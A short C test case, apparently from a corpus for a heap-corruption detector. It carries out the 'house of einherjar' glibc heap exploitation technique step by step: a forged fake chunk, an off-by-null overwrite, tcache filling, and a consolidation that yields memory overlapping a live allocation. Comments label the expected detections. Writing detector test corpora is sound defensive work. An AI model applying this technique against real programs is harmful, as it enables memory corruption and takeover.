/* SPDX-License-Identifier: MIT */
/* house_of_einherjar: a fake free chunk (fd = bk = itself) inside block a;
 * an off-by-null from b clears c's PREV_INUSE and c's prev_size points back
 * to the fake chunk; freeing c (0x100 tcache bin full) consolidates
 * backwards and malloc(0x158) returns memory overlapping the live b.
 * EXPECT-FULL: header-corruption,heap-overflow,freelist-corruption
 * EXPECT-FAST: header-corruption,freelist-corruption
 * glibc 2.36: attack succeeds. */
#include "corpus.h"

int main(void)
{
	size_t *a = malloc(0x38);
	a[0] = 0;		      /* fake prev_size */
	a[1] = 0x60;		      /* fake size */
	a[2] = a[3] = (size_t)a;      /* fd = bk = the fake chunk */
	char *b = malloc(0x28);
	char *c = malloc(0xf8);
	corpus_sink = malloc(0x18); /* keeps c away from the top */
	b[0x28] = 0;		     /* off-by-null: c's size 0x101 -> 0x100 */
	((size_t *)b)[4] = 0x60;     /* c's prev_size: c - fake chunk */
	void *t[7];
	for (int i = 0; i < 7; i++)
		t[i] = malloc(0xf8);
	for (int i = 0; i < 7; i++)
		free(t[i]);
	free(c); /* consolidates with the fake chunk */
	char *d = malloc(0x158);
	return corpus_result(d != NULL && d <= b && b < d + 0x158);
}
